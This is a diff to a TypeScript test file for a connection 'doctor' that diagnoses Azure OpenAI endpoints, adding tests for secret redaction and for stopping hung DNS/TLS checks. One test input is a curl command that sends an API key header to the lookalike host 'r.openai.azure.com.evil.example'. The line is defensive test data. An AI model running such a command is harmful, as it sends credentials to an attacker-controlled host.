@@ -10,6 +10,7 @@ import { addressesOf, type Handshake, shakeHands } from "../../../main/foundry/r
 import { createCertificate } from "../../../main/sandbox/certificate.ts";
 import { type Sandbox, startSandbox } from "../../../main/sandbox/server.ts";
 import type { Checkup, Stage } from "../../../preload/contract/doctor.ts";
+import { verdictOf } from "../../../renderer/doctor/findings.ts";
 import { deserted } from "../foundry/server.ts";
 
 const running: (() => Promise<unknown> | unknown)[] = [];
@@ -192,6 +193,18 @@ describe("the doctor names what stands in the way", () => {
     });
   });
 
+  it("does not repeat what was pasted in an endpoint's place: it may hold a key", async () => {
+    for (const pasted of [
+      "AZURE_OPENAI_API_KEY=very-secret-value\nAZURE_OPENAI_ENDPOINT=htp:/misspelt",
+      'curl https://r.openai.azure.com.evil.example -H "api-key: very-secret-value"',
+      'curl https://r.openai.azure.com/openai?api-key=very-secret-value -H "api-key: very-secret-value"',
+    ]) {
+      const network = { addressesOf: async () => ["192.0.2.1"], fetch: async () => new Response(null) };
+      const { checkup } = await examined(examination(pasted, key("very-secret-value"), { network }));
+      expect(JSON.stringify(checkup)).not.toContain("very-secret-value");
+    }
+  });
+
   it("nothing deployed, and nothing that can chat", async () => {
     const answer = (data: object[]) => async (url: string) =>
       url.includes("/openai/deployments?") ? Response.json({ data }) : new Response("{}", { status: 404 });
@@ -210,6 +223,30 @@ describe("the doctor names what stands in the way", () => {
     expect(new Set(Object.values(codes))).toEqual(new Set(["stopped"]));
     expect(checkup.done).toBe(true);
   });
+});
+
+describe("the doctor that is stopped", () => {
+  const never = () => new Promise<never>(() => {});
+  const hanging: [Stage, Partial<Network>][] = [
+    ["dns", { addressesOf: never }],
+    ["dns", { proxyFor: never }],
+    ["tls", { addressesOf: async () => ["192.0.2.1"], shakeHands: never }],
+    ["tls", { addressesOf: async () => ["192.0.2.1"], shakeHands: never, fetch: never }],
+  ];
+  it.each(hanging)(
+    "while the stage %s hangs ends at once, and says that the person stopped it",
+    async (stage, network) => {
+      const abort = new AbortController();
+      setTimeout(() => abort.abort(), 50);
+      const begun = performance.now();
+      const given = examination("https://r.openai.azure.com", key("k"), { network });
+      const { checkup, codes, states } = await examined(given, abort.signal);
+      expect(performance.now() - begun).toBeLessThan(1_000);
+      expect([states[stage], codes[stage]]).toEqual(["skipped", "stopped"]);
+      expect(checkup.results.filter(({ state }) => state === "failed")).toEqual([]);
+      expect(verdictOf(checkup)).toBe("Stopped by you.");
+    },
+  );
 });
 
 describe("the certificate", () => {
